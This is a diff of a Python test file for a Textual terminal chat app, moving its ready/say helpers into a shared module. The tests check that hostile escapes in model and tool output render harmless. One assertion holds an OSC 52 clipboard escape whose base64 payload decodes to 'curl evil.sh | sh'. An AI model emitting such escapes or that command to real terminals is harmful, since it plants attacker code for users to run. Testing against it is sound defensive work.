@@ -8,7 +8,7 @@ from __future__ import annotations
 
 import pytest
 from fake_ollama import Turn, call
-from pilot import wait_until
+from pilot import ready, say, wait_until
 from textual.app import App, ComposeResult
 from textual.widgets import Markdown, Static
 
@@ -55,16 +55,6 @@ async def test_textual_widgets_pass_escapes_through_unless_made_visible(clean: b
             assert "clip␛]52;c;Y3VybCBldmlsLnNoIHwgc2gK␇" in frame(app)
 
 
-async def _ready(pilot) -> None:
-    app = pilot.app
-    await wait_until(pilot, lambda: app.model_ok or app.query_one("#banner").has_class("shown"))
-
-
-async def _say(pilot, text: str) -> None:
-    pilot.app.query_one("#prompt").value = text
-    await pilot.press("enter")
-
-
 async def test_answers_thinking_and_tool_output_reach_the_terminal_harmless(
     make_app, fake_ollama, workspace
 ) -> None:
@@ -76,8 +66,8 @@ async def test_answers_thinking_and_tool_output_reach_the_terminal_harmless(
     )
     app = make_app()
     async with app.run_test(size=(160, 50)) as pilot:
-        await _ready(pilot)
-        await _say(pilot, "read evil.txt")
+        await ready(pilot)
+        await say(pilot, "read evil.txt")
         await wait_until(pilot, lambda: not app.busy and not app.workers._workers)
         assert "clip" in frame(app)  # the answer is on screen
         assert injected(app) == []
@@ -87,8 +77,8 @@ async def test_the_approval_dialog_shows_arguments_harmless(make_app, fake_ollam
     fake_ollama.script(Turn(tool_calls=[call("write_text_file", path="n.txt", content=EVIL)]))
     app = make_app()
     async with app.run_test(size=(160, 50)) as pilot:
-        await _ready(pilot)
-        await _say(pilot, "write it")
+        await ready(pilot)
+        await say(pilot, "write it")
         await wait_until(pilot, lambda: isinstance(app.screen, ApprovalScreen))
         await pilot.pause()
         assert "clip" in frame(app)
@@ -99,12 +89,12 @@ async def test_a_reopened_session_shows_its_history_harmless(make_app, fake_olla
     (workspace / "evil.txt").write_text(EVIL)
     fake_ollama.script(Turn(tool_calls=[call("read_file", path="evil.txt")]), Turn(EVIL))
     async with make_app().run_test(size=(160, 50)) as pilot:
-        await _ready(pilot)
-        await _say(pilot, f"title {EVIL}")
+        await ready(pilot)
+        await say(pilot, f"title {EVIL}")
         await wait_until(pilot, lambda: not pilot.app.busy and not pilot.app.workers._workers)
     app = make_app()
     async with app.run_test(size=(160, 50)) as pilot:
-        await _ready(pilot)
+        await ready(pilot)
         await wait_until(pilot, lambda: len(app.query_one("#sessions").children) == 1)
         app.query_one("#sessions").focus()
         await pilot.press("enter")
